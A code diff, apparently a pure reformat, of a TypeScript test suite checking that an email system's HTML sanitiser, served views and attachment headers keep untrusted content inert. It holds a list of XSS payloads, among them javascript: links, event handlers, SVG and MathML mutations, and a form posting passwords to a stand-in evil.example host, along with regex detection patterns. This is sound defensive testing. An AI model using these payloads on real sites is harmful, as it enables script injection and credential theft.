@@ -9,20 +9,30 @@ import { withDb } from '../support/test-database';
 const PAYLOADS: Record<string, string> = {
   'script tag': '<p>hi</p><script>alert(1)</script><SCRIPT SRC=//evil.example/x.js></SCRIPT>',
   'script split by a comment': '<scr<!-- -->ipt>alert(1)</script>',
-  'event handlers': '<img src=x onerror=alert(1)><body onload=alert(1)><div onmouseover="alert(1)">x</div><a href="#" onclick="alert(1)">c</a>',
-  'javascript: links': '<a href="javascript:alert(1)">a</a><a href="JaVaScRiPt:alert(1)">b</a><a href="&#106;avascript:alert(1)">c</a><a href=" javascript:alert(1)">d</a>',
-  'vbscript: and data: links': '<a href="vbscript:msgbox(1)">v</a><a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">d</a>',
+  'event handlers':
+    '<img src=x onerror=alert(1)><body onload=alert(1)><div onmouseover="alert(1)">x</div><a href="#" onclick="alert(1)">c</a>',
+  'javascript: links':
+    '<a href="javascript:alert(1)">a</a><a href="JaVaScRiPt:alert(1)">b</a><a href="&#106;avascript:alert(1)">c</a><a href=" javascript:alert(1)">d</a>',
+  'vbscript: and data: links':
+    '<a href="vbscript:msgbox(1)">v</a><a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">d</a>',
   'data: images': '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
-  'srcset and remote images': '<img srcset="https://evil.example/a.png 1x, https://evil.example/b.png 2x" src="https://tracker.example/pixel.gif">',
-  'svg': '<svg onload="alert(1)"><script>alert(1)</script><foreignObject><iframe src="javascript:alert(1)"></iframe></foreignObject></svg>',
-  'math': '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
-  'css expression and url(javascript:)': '<p style="width: expression(alert(1))">a</p><div style="background:url(javascript:alert(1))">b</div><span style="behavior:url(x.htc)">c</span>',
-  'style element and import': '<style>@import url(https://evil.example/x.css); body{background:url(javascript:alert(1))}</style><p>after</p>',
-  'meta refresh': '<meta http-equiv="refresh" content="0;url=javascript:alert(1)"><meta http-equiv="refresh" content="0;url=https://evil.example">',
+  'srcset and remote images':
+    '<img srcset="https://evil.example/a.png 1x, https://evil.example/b.png 2x" src="https://tracker.example/pixel.gif">',
+  svg: '<svg onload="alert(1)"><script>alert(1)</script><foreignObject><iframe src="javascript:alert(1)"></iframe></foreignObject></svg>',
+  math: '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
+  'css expression and url(javascript:)':
+    '<p style="width: expression(alert(1))">a</p><div style="background:url(javascript:alert(1))">b</div><span style="behavior:url(x.htc)">c</span>',
+  'style element and import':
+    '<style>@import url(https://evil.example/x.css); body{background:url(javascript:alert(1))}</style><p>after</p>',
+  'meta refresh':
+    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)"><meta http-equiv="refresh" content="0;url=https://evil.example">',
   'base href': '<base href="https://evil.example/"><a href="/phish">login</a>',
-  'forms and inputs': '<form action="https://evil.example/steal" method="post"><input name="password" type="password"><button formaction="javascript:alert(1)">Go</button></form>',
-  'iframes, objects and embeds': '<iframe src="https://evil.example"></iframe><object data="x.swf"></object><embed src="x.swf"><applet code="x"></applet>',
-  'link and template': '<link rel="stylesheet" href="https://evil.example/x.css"><template><script>alert(1)</script></template>',
+  'forms and inputs':
+    '<form action="https://evil.example/steal" method="post"><input name="password" type="password"><button formaction="javascript:alert(1)">Go</button></form>',
+  'iframes, objects and embeds':
+    '<iframe src="https://evil.example"></iframe><object data="x.swf"></object><embed src="x.swf"><applet code="x"></applet>',
+  'link and template':
+    '<link rel="stylesheet" href="https://evil.example/x.css"><template><script>alert(1)</script></template>',
   'noscript mutation': '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
   'entity-encoded tags stay text': '&lt;script&gt;alert(1)&lt;/script&gt;',
 };
@@ -44,7 +54,9 @@ function hostileEmail(subject: string, html: string): Buffer {
 }
 
 function assertInert(html: string): void {
-  expect(html).not.toMatch(/<(script|style|iframe|object|embed|applet|form|input|button|svg|math|meta|base|link|template|noscript|frame)\b/i);
+  expect(html).not.toMatch(
+    /<(script|style|iframe|object|embed|applet|form|input|button|svg|math|meta|base|link|template|noscript|frame)\b/i,
+  );
   expect(html).not.toMatch(/<[^>]*\son[a-z]+\s*=/i);
   expect(html).not.toMatch(/<[^>]*=\s*["']?\s*(javascript|vbscript|data):/i);
   expect(html).not.toMatch(/<[^>]*\s(src|srcset|formaction|action|background)\s*=/i);
@@ -75,7 +87,10 @@ describe('untrusted HTML stays inert', () => {
   });
 
   it.each(Object.keys(PAYLOADS))('stores %s inert', async (name) => {
-    const { html_sanitised: html } = await withDb(env.databaseUrl, async (db) => (await db.query(`SELECT html_sanitised FROM messages WHERE id = $1`, [ids.get(name)])).rows[0]);
+    const { html_sanitised: html } = await withDb(
+      env.databaseUrl,
+      async (db) => (await db.query(`SELECT html_sanitised FROM messages WHERE id = $1`, [ids.get(name)])).rows[0],
+    );
     expect(typeof html).toBe('string');
     assertInert(html);
   });
@@ -88,7 +103,10 @@ describe('untrusted HTML stays inert', () => {
     expect(csp).toMatch(/\bsandbox\b/);
     expect(csp).not.toMatch(/script-src|allow-scripts|allow-same-origin|img-src/);
     expect(res.headers['x-content-type-options']).toBe('nosniff');
-    const body = res.text.replace(/^<!doctype html><html><head><meta charset="utf-8"><meta name="referrer" content="no-referrer"><style>[^<]*<\/style><\/head><body>/, '');
+    const body = res.text.replace(
+      /^<!doctype html><html><head><meta charset="utf-8"><meta name="referrer" content="no-referrer"><style>[^<]*<\/style><\/head><body>/,
+      '',
+    );
     assertInert(body);
   });
 
@@ -145,12 +163,20 @@ describe('untrusted HTML stays inert', () => {
       { n: 0, filename: 'invoice.html', contentType: 'application/octet-stream', size: 40, inline: false },
       { n: 1, filename: 'photo.png', contentType: 'application/pdf', size: 25, inline: false },
     ]);
-    const html = await caseworker.get(`/api/messages/${res.body.messageId}/attachments/0`).buffer(true).parse(binary).expect(200);
+    const html = await caseworker
+      .get(`/api/messages/${res.body.messageId}/attachments/0`)
+      .buffer(true)
+      .parse(binary)
+      .expect(200);
     expect(html.headers['content-type']).toBe('application/octet-stream');
     expect(html.headers['content-disposition']).toBe('attachment; filename=invoice.html');
     expect(html.headers['x-content-type-options']).toBe('nosniff');
     expect(html.headers['content-security-policy']).toBe("default-src 'none'; sandbox");
-    const pdf = await caseworker.get(`/api/messages/${res.body.messageId}/attachments/1`).buffer(true).parse(binary).expect(200);
+    const pdf = await caseworker
+      .get(`/api/messages/${res.body.messageId}/attachments/1`)
+      .buffer(true)
+      .parse(binary)
+      .expect(200);
     expect(pdf.headers['content-type']).toBe('application/pdf');
     expect(Buffer.from(pdf.body).toString()).toBe('%PDF-1.4 not really a png');
     await caseworker.get(`/api/messages/${res.body.messageId}/attachments/2`).expect(404);
